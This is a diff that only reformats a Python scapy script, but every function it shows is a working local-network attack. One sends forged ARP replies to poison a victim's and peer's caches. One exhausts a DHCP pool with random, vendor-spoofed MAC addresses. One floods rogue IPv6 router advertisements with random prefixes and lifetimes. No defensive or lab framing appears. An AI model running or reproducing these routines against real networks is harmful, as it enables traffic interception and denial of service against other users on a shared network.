@@ -8,8 +8,23 @@ import time
 
 logging.disable(logging.WARNING)  # scapy warns of interfaces without addresses
 
-from scapy.all import (ARP, BOOTP, DHCP, IP, UDP, Ether, ICMPv6ND_RA, ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr, IPv6, conf,
-                       get_if_hwaddr, getmacbyip, sendp, srp1)
+from scapy.all import (
+    ARP,
+    BOOTP,
+    DHCP,
+    IP,
+    UDP,
+    Ether,
+    ICMPv6ND_RA,
+    ICMPv6NDOptPrefixInfo,
+    ICMPv6NDOptSrcLLAddr,
+    IPv6,
+    conf,
+    get_if_hwaddr,
+    getmacbyip,
+    sendp,
+    srp1,
+)
 
 EVERYBODY = "ff:ff:ff:ff:ff:ff"
 
@@ -32,8 +47,9 @@ def arp(options, _chance):
     pairs = [(options.victim, options.peer), (options.peer, options.victim)][: 2 if options.both else 1]
     for _ in range(options.count):
         for told, claimed in pairs:
-            frame = Ether(src=own, dst=hardware[told]) / ARP(op=1 if options.request else 2, hwsrc=own, psrc=claimed, pdst=told,
-                                                             hwdst=hardware[told])
+            frame = Ether(src=own, dst=hardware[told]) / ARP(
+                op=1 if options.request else 2, hwsrc=own, psrc=claimed, pdst=told, hwdst=hardware[told]
+            )
             sendp(frame, iface=options.interface, verbose=False)
         time.sleep(options.pause)
 
@@ -44,14 +60,24 @@ def dhcp(options, chance):
     for number in range(options.count):
         client = hardware_address(chance, options.vendor)
         identifier = chance.getrandbits(32)
-        base = (Ether(src=client, dst=EVERYBODY) / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67)
-                / BOOTP(chaddr=bytes.fromhex(client.replace(":", "")) + bytes(10), xid=identifier, flags=0x8000))
+        base = (
+            Ether(src=client, dst=EVERYBODY)
+            / IP(src="0.0.0.0", dst="255.255.255.255")
+            / UDP(sport=68, dport=67)
+            / BOOTP(chaddr=bytes.fromhex(client.replace(":", "")) + bytes(10), xid=identifier, flags=0x8000)
+        )
         ask = base / DHCP(options=[("message-type", "discover"), ("hostname", f"host-{number}"), "end"])
         offer = srp1(ask, iface=options.interface, timeout=1.2, verbose=False, filter="udp port 68")
         if offer is not None and DHCP in offer and offer[BOOTP].xid == identifier:
             server = next((entry[1] for entry in offer[DHCP].options if entry[0] == "server_id"), None)
-            accept = base / DHCP(options=[("message-type", "request"), ("requested_addr", offer[BOOTP].yiaddr),
-                                          ("server_id", server), "end"])
+            accept = base / DHCP(
+                options=[
+                    ("message-type", "request"),
+                    ("requested_addr", offer[BOOTP].yiaddr),
+                    ("server_id", server),
+                    "end",
+                ]
+            )
             sendp(accept, iface=options.interface, verbose=False)
         time.sleep(options.pause)
 
@@ -61,9 +87,13 @@ def router(options, chance):
     for _ in range(options.count):
         sender = hardware_address(chance, options.vendor)
         prefix = f"2001:db8:{chance.randrange(65536):x}:{chance.randrange(65536):x}::"
-        frame = (Ether(src=sender, dst="33:33:00:00:00:01") / IPv6(src=linked(sender), dst="ff02::1", hlim=255)
-                 / ICMPv6ND_RA(routerlifetime=chance.choice((0, 1800, 65535)))
-                 / ICMPv6NDOptPrefixInfo(prefix=prefix, prefixlen=64) / ICMPv6NDOptSrcLLAddr(lladdr=sender))
+        frame = (
+            Ether(src=sender, dst="33:33:00:00:00:01")
+            / IPv6(src=linked(sender), dst="ff02::1", hlim=255)
+            / ICMPv6ND_RA(routerlifetime=chance.choice((0, 1800, 65535)))
+            / ICMPv6NDOptPrefixInfo(prefix=prefix, prefixlen=64)
+            / ICMPv6NDOptSrcLLAddr(lladdr=sender)
+        )
         sendp(frame, iface=options.interface, verbose=False)
         time.sleep(options.pause)
 
